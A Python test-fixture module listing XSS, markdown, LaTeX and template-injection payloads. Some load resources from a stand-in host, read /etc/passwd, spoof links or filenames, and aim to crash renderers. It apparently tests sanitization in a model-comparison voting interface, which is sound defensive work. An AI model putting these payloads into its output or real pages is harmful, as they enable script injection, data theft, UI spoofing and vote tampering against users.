"""Texts a model might write, by accident or design, that try to run, load, hide, cover or name something."""

EVIL = "http://evil.example"

_TAGS = [
    "<script>parent.hit=1</script>", "<img src={e}/a.png>", "<img src=x onerror=hit=1>", "<svg onload=hit=1>",
    "<iframe src={e}></iframe>", "<style>@import '{e}';</style>", "<link rel=stylesheet href={e}>", "<video src={e} autoplay>",
    "<audio src={e} autoplay>", "<object data={e}></object>", "<embed src={e}>", "<base href={e}>",
    "<meta http-equiv=refresh content='0;url={e}'>", "<form action={e}><button>Left is better</button></form>",
    "<button id=vote data-choice=left>Left</button>", "<div style='position:fixed;inset:0'>x</div>",
    "<div style='background:url({e})'>x</div>", "<input autofocus onfocus=hit=1>", "<details open ontoggle=hit=1>",
    "<marquee onstart=hit=1>", "<body onload=hit=1>", "<a href=javascript:hit=1>x</a>", "<dialog open>x</dialog>",
    "<template><img src={e}></template>", "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=hit=1></style></mglyph></math>",
    "<svg><style><img src=x onerror=hit=1></style></svg>", "<table background={e}><td>x", "<!--><img src=x onerror=hit=1>-->",
    "<![CDATA[<img src=x onerror=hit=1>]]>", "<?xml version='1.0'?><x onload=hit=1>", "<isindex action={e}>",
    "<textarea><img src=x onerror=hit=1></textarea>", "</div></section></main><img src=x onerror=hit=1>", "</pre><script>hit=1</script>",
    "<scr<script>ipt>hit=1</scr</script>ipt>", "<IMG SRC=JaVaScRiPt:hit=1>", "<a href='&#106;avascript:hit=1'>x</a>",
    "<img srcset='{e} 1x'>", "<picture><source srcset={e}></picture>", "<p class=tb-bar id=tb-bar data-do=undo>x</p>",
    "<x-element>x</x-element>", "<gradio-app></gradio-app>", "<slot name=x>", "<portal src={e}>", "<frame src={e}>", "<applet code={e}>",
]  # fmt: skip
_LINKS = [
    "[x](javascript:hit=1)", "[x](JAVASCRIPT:hit=1)", "[x](java\tscript:hit=1)", "[x](&#x6A;avascript:hit=1)",
    "[x](data:text/html,<script>hit=1</script>)", "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](//evil.example/x)",
    "[x](/studio/)", "[x](#tb-bar)", "[x]({e} \"onmouseover=hit=1\")", "[x]({e}/\"onmouseover=hit=1)", "<javascript:hit=1>",
    "<data:text/html,x>", "[![i]({e}/b.png)]({e}/c)", "![x]({e}/d.png)", "![x](javascript:hit=1)", "![x](data:image/svg+xml,<svg onload=hit=1>)",
    "![<img src=x onerror=hit=1>]({e}/e.png)", "[a]: javascript:hit=1\n\n[a]", "[a]: {e} 'x\" onclick=\"hit=1'\n\n[a]", "![a][b]\n\n[b]: {e}/f.png",
    "[x](http://evil.example\" onclick=hit=1 x=\")", "[x](mailto:a@b.c?subject=<script>)", "[x](blob:{e})", "[x](about:blank)",
    "<http://evil.example/\"onclick=hit=1>", "[x](ftp://evil.example)", "[x](ws://evil.example)", "[x](ht\ntp://evil.example)",
    "[\u202egpj.exe]({e})", "[https://bank.example]({e})",
]  # fmt: skip
_MATH = [
    r"$\href{javascript:hit=1}{x}$", r"$\text{<img src=x onerror=hit=1>}$", r"$$\text{</math><script>hit=1</script>}$$",
    r"\(\style{background:url(http://evil.example)}{x}\)", r"\[\class{tb-bar}{x}\]", r"$\unicode{x3c}script>$", r"$\mathrm{<svg onload=hit=1>}$",
    r"$\rule{9999em}{9999em}$", r"$\hspace{-9999px}x$", "$" + "{" * 400 + "}" * 400 + "$", "$" + r"\frac{1}" * 300 + "{2}$", r"$\cssId{tb-bar}{x}$",
    r"$\includegraphics{http://evil.example}$", r"$\color{url(http://evil.example)}x$", r"$\begin{array}{http://evil.example}x\end{array}$",
    r"$&lt;img src=x onerror=hit=1&gt;$", r"$\operatorname{&#60;script&#62;hit=1&#60;/script&#62;}$", r"$\input{/etc/passwd}$", r"$x$$y$$z$", "$$", r"\[", r"\(\)",
]  # fmt: skip
_BLOCKS = [
    "```html\n<script>hit=1</script>\n```", "```\"onmouseover=hit=1\nx\n```", "```<img src=x onerror=hit=1>\nx\n```", "~~~js\n</code></pre><script>hit=1</script>\n~~~",
    "    <script>hit=1</script>", "`<script>hit=1</script>`", "| <script>hit=1</script> |\n|-|\n| <img src=x onerror=hit=1> |", "> <script>hit=1</script>",
    "- <script>hit=1</script>", "# <script>hit=1</script>", "&lt;script&gt;hit=1&lt;/script&gt;", "&#60;script&#62;hit=1&#60;/script&#62;",
    "\x00<script>hit=1</script>", "<script\x00>hit=1</script>", "\ufeff<script>hit=1</script>", "<\u0130mg src=x onerror=hit=1>",
    "\u2028<script>hit=1</script>", "\u202e" * 50 + "<script>hit=1</script>", "x" * 70_000 + "<script>hit=1</script>", ">" * 3000 + "x", "[" * 3000, "*" * 3001,
    "- " * 200 + "x", "a" * 5000, "\\" * 999 + "<script>hit=1</script>", "{{constructor.constructor('hit=1')()}}", "${hit=1}", "<%= hit=1 %>",
]  # fmt: skip

PAYLOADS = [text.replace("{e}", EVIL) for text in (*_TAGS, *_LINKS, *_MATH, *_BLOCKS)]
